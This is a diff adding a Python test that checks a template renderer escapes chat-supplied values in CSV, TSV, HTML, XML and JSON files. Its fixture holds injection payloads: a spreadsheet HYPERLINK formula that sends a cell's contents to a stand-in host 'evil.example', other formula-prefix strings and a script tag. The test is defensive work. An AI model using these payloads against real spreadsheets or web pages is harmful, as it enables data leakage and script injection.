@@ -109,6 +109,65 @@ def test_a_template_name_filled_in_with_a_long_client_and_title_is_cut_keeping_i
     assert render_tree(template, storage, "2026-008_x", names, names)["kept"] == [path]  # the same name again
 
 
+HOSTILE_TEXTS = {"client": '=HYPERLINK("https://evil.example/?"&A1,"詳細"),x', "title": '+1\t"金型"\n<b>改修</b>',
+                 "requester": "@SUM(1;2) & <script>alert(1)</script> 'quoted'", "case": "2026-009", "due": "-1"}
+
+
+def test_values_from_chat_are_filled_into_a_templates_text_files_as_text_of_that_kind(tmp_path):
+    """A client, title or display name is written into a CSV as one cell that never runs as a
+    formula in Excel or Sheets, escaped in HTML and XML, inside its string in JSON."""
+    import csv
+    import io
+    from html.parser import HTMLParser
+    from xml.etree import ElementTree
+
+    template = tmp_path / "template"
+    template.mkdir()
+    (template / "memo.csv").write_bytes("\ufeff顧客,件名,依頼者,納期,式\r\n${client},${title},${requester},${due},"
+                                        '"=CONCAT(""${client}"")"\r\n'.encode())
+    (template / "memo.tsv").write_text("${client}\t${title}\n")
+    (template / "index.html").write_text("<p title='${client}'>${title}</p><i>${requester}</i>")
+    (template / "case.xml").write_text("<case client='${client}'><title>${title}</title></case>")
+    (template / "case.json").write_text('{"client": "${client}", "title": "${title}", "by": "${requester}"}')
+    (template / "README.txt").write_text("${client}")
+    names = {**HOSTILE_TEXTS, "client": "c", "title": "t", "requester": "r"}
+    storage = LocalStorage(tmp_path / "cases")
+    render_tree(template, storage, "2026-009_c_t", names, HOSTILE_TEXTS)
+
+    def read(name: str) -> str:
+        return storage.read(f"2026-009_c_t/{name}").decode()
+
+    client, title, requester = HOSTILE_TEXTS["client"], HOSTILE_TEXTS["title"], HOSTILE_TEXTS["requester"]
+    memo = read("memo.csv")
+    assert memo.startswith("\ufeff顧客,件名,依頼者,納期,式\r\n") and memo.endswith("\r\n")  # Excel's CSV kept
+    assert list(csv.reader(io.StringIO(memo[1:], newline=""))) == [
+        ["顧客", "件名", "依頼者", "納期", "式"],
+        ["'" + client, "'" + title, "'" + requester, "'-1", '=CONCAT("' + client.replace('"', '""') + '")']]
+    assert list(csv.reader(io.StringIO(read("memo.tsv"), newline=""), delimiter="\t")) == [["'" + client,
+                                                                                           "'" + title]]
+
+    class Page(HTMLParser):
+        def __init__(self):
+            super().__init__()
+            self.tags, self.attributes, self.text = [], [], []
+
+        def handle_starttag(self, tag, attrs):
+            self.tags.append(tag)
+            self.attributes.extend(attrs)
+
+        def handle_data(self, data):
+            self.text.append(data)
+
+    page = Page()
+    page.feed(read("index.html"))
+    assert page.tags == ["p", "i"] and page.attributes == [("title", client)]
+    assert "".join(page.text) == title + requester
+    case = ElementTree.fromstring(read("case.xml"))
+    assert case.get("client") == client and case.find("title").text == title and len(case.find("title")) == 0
+    assert json.loads(read("case.json")) == {"client": client, "title": title, "by": requester}
+    assert read("README.txt") == client  # plain text: as written
+
+
 # -- estimate ----------------------------------------------------------------------------------
 def test_client_defaults_come_from_settings():
     from workers.office.estimating import default_lines
